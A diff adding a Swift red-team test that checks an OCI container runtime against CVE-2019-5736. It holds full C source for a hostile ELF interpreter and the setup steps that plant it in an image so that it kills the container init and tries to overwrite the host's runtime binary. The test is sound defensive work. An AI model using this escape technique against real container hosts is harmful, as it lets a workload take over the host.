@@ -1,0 +1,87 @@
+import BulkheadModel
+import Foundation
+import Glibc
+import Testing
+
+/// Red team of `bulkhead-runc` (issue 13): attacks by the image author and the workload on the
+/// real kernel, each against a copy of the runtime so that a successful attack harms nothing.
+@Suite(.serialized, .enabled(if: Gate.root, Gate.rootReason))
+struct RedTeamOCIRuntimeTests {
+    /// An ELF interpreter of the image's own (no libc, raw syscalls): the kernel runs it for a
+    /// dynamically linked binary, so whatever binary the workload execs, this code runs with
+    /// that binary as /proc/self/exe. It keeps a descriptor of /proc/self/exe as fd 3, then
+    /// execs a busybox shell that kills the container's init (the host's pid namespace: the
+    /// config has none) and, once the binary is no longer text-busy, writes to it.
+    static let interpreter = #"""
+    #include <sys/syscall.h>
+    #include <fcntl.h>
+    static long sc(long n, long a, long b, long c) {
+        long r;
+        __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
+        return r;
+    }
+    void _start(void) {
+        long fd = sc(SYS_open, (long)"/proc/self/exe", O_RDONLY, 0);
+        long lf = sc(SYS_open, (long)"/out/log", O_WRONLY | O_CREAT | O_APPEND, 0644);
+        sc(SYS_write, lf, (long)"interp ran\n", 11);
+        if (fd != 3) sc(SYS_dup2, fd, 3, 0);
+        const char *argv[] = {"sh", "-c",
+            "busybox readlink /proc/self/fd/3 >> /out/log; P=$PPID; (busybox sleep 1; busybox kill -9 $P; busybox sleep 1; "
+            "echo PWNED >> /proc/self/fd/3 && echo wrote >> /out/log || echo write-failed >> /out/log) & busybox sleep 5", 0};
+        const char *envp[] = {"PATH=/bin", 0};
+        sc(SYS_execve, (long)"/bin/busybox", (long)argv, (long)envp);
+        sc(SYS_exit, 1, 0, 0);
+    }
+    """#
+
+    /// CVE-2019-5736: the image's /bin/sh is a symlink to /proc/self/exe and its ELF interpreter
+    /// is the attacker's. The init is a clone of the runtime, so the workload's execve runs the
+    /// runtime's binary with the image's interpreter, which keeps a descriptor of it; killing
+    /// the init (no pid namespace) ends the text-busy state and the runtime on the host is
+    /// overwritten for the next container. runc runs from a sealed memfd for this reason.
+    @Test func workloadCannotOverwriteTheRuntimeBinary() throws {
+        #if arch(x86_64)
+        let b = try OCIRuntimeTests.Bundle(args: ["/bin/sh"]) { config in
+            var linux = config["linux"] as! [String: Any]
+            linux["namespaces"] = (linux["namespaces"] as! [[String: Any]]).filter { $0["type"] as? String != "pid" }
+            config["linux"] = linux
+        }
+        let work = b.dir + "-rt"
+        try FileManager.default.createDirectory(atPath: work, withIntermediateDirectories: true)
+        defer { try? FileManager.default.removeItem(atPath: work) }
+        try Self.interpreter.write(toFile: work + "/interp.c", atomically: true, encoding: .utf8)
+        let cc = Process()
+        cc.executableURL = URL(fileURLWithPath: "/usr/bin/gcc")
+        cc.arguments = ["-nostdlib", "-static-pie", "-fPIE", "-O1", "-fno-stack-protector", "-o", work + "/interp", work + "/interp.c"]
+        try cc.run()
+        cc.waitUntilExit()
+        try #require(cc.terminationStatus == 0, "gcc builds the image's interpreter")
+        let fm = FileManager.default
+        try fm.createDirectory(atPath: b.dir + "/rootfs/lib64", withIntermediateDirectories: true)
+        try fm.copyItem(atPath: work + "/interp", toPath: b.dir + "/rootfs/lib64/ld-linux-x86-64.so.2")
+        try fm.removeItem(atPath: b.dir + "/rootfs/bin/sh")
+        try fm.createSymbolicLink(atPath: b.dir + "/rootfs/bin/sh", withDestinationPath: "/proc/self/exe")
+        // The runtime the attack aims at: a copy, root's, 0755, as an installed one is.
+        let binary = work + "/bulkhead-runc"
+        try fm.copyItem(atPath: OCIRuntimeTests.runtime, toPath: binary)
+        chmod(binary, 0o755)
+        let before = try Data(contentsOf: URL(fileURLWithPath: binary))
+
+        let c = try OCIRuntimeTests.rt(["create", "--bundle", b.dir, "c1"], root: b.stateRoot, binary: binary)
+        try #require(c.status == 0, "create: \(c.stderr)")
+        #expect(try OCIRuntimeTests.rt(["start", "c1"], root: b.stateRoot, binary: binary).status == 0)
+        let log = b.out + "/log"
+        for _ in 0..<1000 {
+            let text = (try? String(contentsOfFile: log, encoding: .utf8)) ?? ""
+            if text.contains("wrote") || text.contains("write-failed") { break }
+            usleep(10_000)
+        }
+        let text = (try? String(contentsOfFile: log, encoding: .utf8)) ?? ""
+        // The attack ran (not vacuous): the image's interpreter held the runtime's binary.
+        #expect(text.contains("interp ran"), "log: \(text)")
+        #expect(text.contains("write-failed"), "log: \(text)")
+        #expect(!text.contains("wrote"), "the workload wrote to the runtime's binary; log: \(text)")
+        #expect(try Data(contentsOf: URL(fileURLWithPath: binary)) == before, "the runtime's binary on the host is unchanged")
+        #endif
+    }
+}
